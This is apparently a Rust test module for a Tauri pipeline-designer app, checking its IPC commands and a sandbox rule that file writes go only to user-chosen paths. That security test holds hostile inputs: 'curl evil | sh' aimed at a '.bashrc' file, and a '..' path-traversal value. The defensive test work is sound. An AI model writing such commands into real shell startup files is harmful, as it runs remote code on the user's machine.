//! The designer, file and app commands through Tauri's real IPC layer (mock runtime, no window),
//! and the check that every command in the list is called by one of these test modules.

use std::collections::HashSet;
use std::path::Path;

use serde_json::{json, Value};
use tauri::test::MockRuntime;
use tauri::{Manager, WebviewWindow};

use super::{call_checked, ipc_call};
use crate::commands::specs;
use pipewright_appcore::state::AppState;

struct Harness {
    app: tauri::App<MockRuntime>,
    webview: WebviewWindow<MockRuntime>,
    called: HashSet<String>,
}

impl Harness {
    fn new(config: &Path, data: &Path, startup: Option<String>) -> Self {
        let (app, webview) = super::mock_app(|app| {
            app.manage(AppState::new(config, data, startup));
        });
        Harness {
            app,
            webview,
            called: HashSet::new(),
        }
    }

    /// Call `cmd` with `args` (camelCase keys, as the UI sends them).
    fn call(&mut self, cmd: &str, args: Value) -> Result<Value, Value> {
        self.called.insert(cmd.to_string());
        call_checked(&self.webview, cmd, args)
    }

    /// The user chose `path` in a file dialog (the dialogs themselves need a window).
    fn choose(&self, path: &Path) {
        self.app.state::<AppState>().grants.grant_file(path);
    }

    fn ok(&mut self, cmd: &str, args: Value) -> Value {
        self.call(cmd, args)
            .unwrap_or_else(|e| panic!("{cmd} failed: {e}"))
    }
}

#[test]
fn every_command_answers_through_ipc() {
    let config = tempfile::tempdir().expect("tempdir");
    let data = tempfile::tempdir().expect("tempdir");
    let files = tempfile::tempdir().expect("tempdir");
    let startup = files.path().join("start.json").display().to_string();
    let mut h = Harness::new(config.path(), data.path(), Some(startup.clone()));

    // Designer.
    let catalog = h.ok("catalog", json!({}));
    let providers = catalog["providers"].as_array().expect("providers");
    assert!(providers
        .iter()
        .any(|p| p["category"] == "Build" && p["provider"] == "CodeBuild"));
    let doc = h.ok("new_document", json!({ "template": null, "values": null }));
    assert_eq!(
        doc["pipeline"]["stages"][1]["actions"][0]["actionTypeId"]["provider"],
        "CodeBuild"
    );
    let templates = h.ok("templates", json!({}));
    let first = templates[0]["id"]
        .as_str()
        .expect("a template id")
        .to_string();
    assert!(templates[0]["placeholders"].is_array());
    let from_template = h.ok("new_document", json!({ "template": first, "values": null }));
    assert!(!from_template["pipeline"]["stages"]
        .as_array()
        .expect("stages")
        .is_empty());
    // With the values asked in the form: each fills its placeholder.
    let placeholder = templates[0]["placeholders"][0]["name"]
        .as_str()
        .expect("a placeholder")
        .to_string();
    let marker = format!("<<{placeholder}>>");
    assert!(from_template.to_string().contains(&marker));
    let filled = h.ok(
        "new_document",
        json!({ "template": first, "values": { placeholder.clone(): "filled-by-form" } }),
    );
    assert!(!filled.to_string().contains(&marker), "{filled}");
    assert!(filled.to_string().contains("filled-by-form"), "{filled}");
    let error = h
        .call(
            "new_document",
            json!({ "template": "no-such-template", "values": null }),
        )
        .expect_err("unknown template");
    assert_eq!(error["kind"], "template");
    let diagnostics = h.ok("validate_document", json!({ "document": doc }));
    assert!(diagnostics.is_array());
    let yaml = h.ok("render_text", json!({ "document": doc, "format": "yaml" }));
    let yaml = yaml.as_str().expect("text");
    assert!(yaml.starts_with("pipeline:"), "{yaml}");
    let parsed = h.ok("parse_text", json!({ "text": yaml, "format": "yaml" }));
    assert_eq!(parsed, doc);
    let error = h
        .call(
            "parse_text",
            json!({ "text": "{\n  \"pipeline\": ", "format": "json" }),
        )
        .expect_err("broken");
    assert_eq!(error["kind"], "parse");
    // The codec's located message, as a sentence.
    assert!(
        error["message"]
            .as_str()
            .expect("message")
            .starts_with("Line 2, column 14"),
        "{error}"
    );

    // Files: save, open, recent.
    let path = files.path().join("design.json");
    let mut edited = doc.clone();
    edited["pipeline"]["name"] = json!("edited");
    edited["pipeline"]["stages"][0]["actions"][0]["someFutureField"] = json!({ "kept": [1, 2] });
    h.choose(&path);
    assert_eq!(
        h.ok(
            "save_design",
            json!({ "path": path, "document": edited, "format": null })
        ),
        Value::Null
    );
    let opened = h.ok("open_design", json!({ "path": path }));
    assert_eq!(opened["format"], "json");
    assert_eq!(
        opened["document"], edited,
        "unknown fields survive IPC, save and open"
    );
    let recent = h.ok("recent_files", json!({}));
    let canonical = std::fs::canonicalize(&path)
        .expect("canonical")
        .display()
        .to_string();
    assert_eq!(recent, json!([canonical]));
    h.choose(&files.path().join("missing.yaml"));
    let error = h
        .call(
            "open_design",
            json!({ "path": files.path().join("missing.yaml") }),
        )
        .expect_err("missing");
    assert_eq!(error["kind"], "not-found");

    // Autosave and recovery.
    h.ok(
        "autosave",
        json!({ "key": "tab-1", "path": null, "document": edited }),
    );
    let recoveries = h.ok("list_recoveries", json!({}));
    assert_eq!(recoveries[0]["key"], "tab-1");
    assert_eq!(recoveries[0]["path"], Value::Null);
    assert!(recoveries[0]["savedAt"].is_string());
    assert_eq!(recoveries[0]["document"], edited);
    h.ok("discard_recovery", json!({ "key": "tab-1" }));
    assert_eq!(h.ok("list_recoveries", json!({})), json!([]));

    // Export, startup file, app info.
    let png = files.path().join("design.png");
    h.choose(&png);
    h.ok(
        "save_export",
        json!({ "path": png, "dataBase64": "iVBORw0KGgo=" }),
    );
    assert_eq!(std::fs::read(&png).expect("read"), b"\x89PNG\r\n\x1a\n");
    assert_eq!(h.ok("startup_file", json!({})), json!(startup));
    let info = h.ok("app_info", json!({}));
    assert_eq!(info["connectionLabel"], "Local sandbox");
    // The app's version as Tauri knows it (the mock context's), what the updater compares.
    assert_eq!(info["version"], h.app.package_info().version.to_string());

    // The file dialogs are opened from Rust (which records the choice); without a window they
    // say they cannot be shown.
    for (cmd, args) in [
        (
            "pick_file",
            json!({ "filters": [{ "name": "Designs", "extensions": ["json"] }] }),
        ),
        ("pick_folder", json!({ "title": "Folder" })),
        (
            "pick_save_path",
            json!({ "title": null, "defaultPath": "design.json", "filters": [] }),
        ),
    ] {
        let error = h.call(cmd, args).expect_err("no dialog without a window");
        assert_eq!(error["kind"], "unavailable", "{cmd}: {error}");
    }

    let missing: Vec<_> = specs()
        .into_iter()
        .map(|s| s.name)
        // The control room's commands need a live sandbox: `ipc_tests::control` calls them all.
        .filter(|n| !h.called.contains(*n) && !n.starts_with("control_"))
        // The connections and sync commands: `ipc_tests::remote` calls them (real keyring, moto).
        .filter(|n| !super::remote::COVERED.contains(n))
        // Environments, exports and the GitHub migration: `ipc_tests::environments`.
        .filter(|n| !super::environments::COVERED.contains(n))
        // Compare with...: `ipc_tests::review` (a git repository of its own).
        .filter(|n| !super::review::COVERED.contains(n))
        // The About box and updates: `ipc_tests::updates`.
        .filter(|n| !super::updates::COVERED.contains(n))
        // Sign in: `ipc_tests::sign_in` (the sandbox as IAM Identity Center).
        .filter(|n| !super::sign_in::COVERED.contains(n))
        .collect();
    assert!(
        missing.is_empty(),
        "commands this test does not call: {missing:?}"
    );
}

#[test]
fn unknown_commands_are_refused() {
    let dir = tempfile::tempdir().expect("tempdir");
    let h = Harness::new(dir.path(), dir.path(), None);
    assert!(ipc_call(&h.webview, "delete_everything", json!({})).is_err());
}

/// A path the webview names is written (or opened) only when the user chose it in a dialog this
/// session, or it is a recent file or the startup file: a script in the webview cannot write
/// anywhere it likes.
#[test]
fn file_commands_write_only_where_the_user_chose() {
    let config = tempfile::tempdir().expect("tempdir");
    let files = tempfile::tempdir().expect("tempdir");
    let startup = files.path().join("start.json");
    let mut h = Harness::new(
        config.path(),
        config.path(),
        Some(startup.display().to_string()),
    );
    let doc = h.ok("new_document", json!({ "template": null, "values": null }));
    let elsewhere = files.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).expect("dir");
    let victim = elsewhere.join(".bashrc");
    std::fs::write(&victim, "original").expect("victim");

    for (cmd, args) in [
        (
            "save_text",
            json!({ "path": victim, "text": "curl evil | sh" }),
        ),
        (
            "save_export",
            json!({ "path": victim, "dataBase64": "aGk=" }),
        ),
        (
            "save_design",
            json!({ "path": elsewhere.join("x.json"), "document": doc, "format": null }),
        ),
        // The same file named through `..`.
        (
            "save_text",
            json!({ "path": files.path().join("elsewhere/../elsewhere/.bashrc"), "text": "x" }),
        ),
        ("open_design", json!({ "path": victim })),
    ] {
        let error = h.call(cmd, args).expect_err("not chosen");
        assert_eq!(error["kind"], "path-not-chosen", "{cmd}: {error}");
        assert!(
            error["message"]
                .as_str()
                .is_some_and(|m| m.contains("chosen in its file dialog")),
            "{error}"
        );
    }
    assert_eq!(std::fs::read_to_string(&victim).expect("read"), "original");
    assert!(!elsewhere.join("x.json").exists());

    // Chosen in the save dialog: written; then a recent file, which stays writable.
    let chosen = files.path().join("chosen.json");
    h.choose(&chosen);
    h.ok(
        "save_design",
        json!({ "path": chosen, "document": doc, "format": null }),
    );
    // The startup file may be saved (and opened) without a dialog.
    h.ok(
        "save_design",
        json!({ "path": startup, "document": doc, "format": null }),
    );
    let mut fresh = Harness::new(config.path(), config.path(), None);
    fresh.ok("open_design", json!({ "path": chosen }));
    fresh.ok(
        "save_design",
        json!({ "path": chosen, "document": doc, "format": null }),
    );
    let error = fresh
        .call("save_text", json!({ "path": victim, "text": "x" }))
        .expect_err("still not chosen");
    assert_eq!(error["kind"], "path-not-chosen");
}
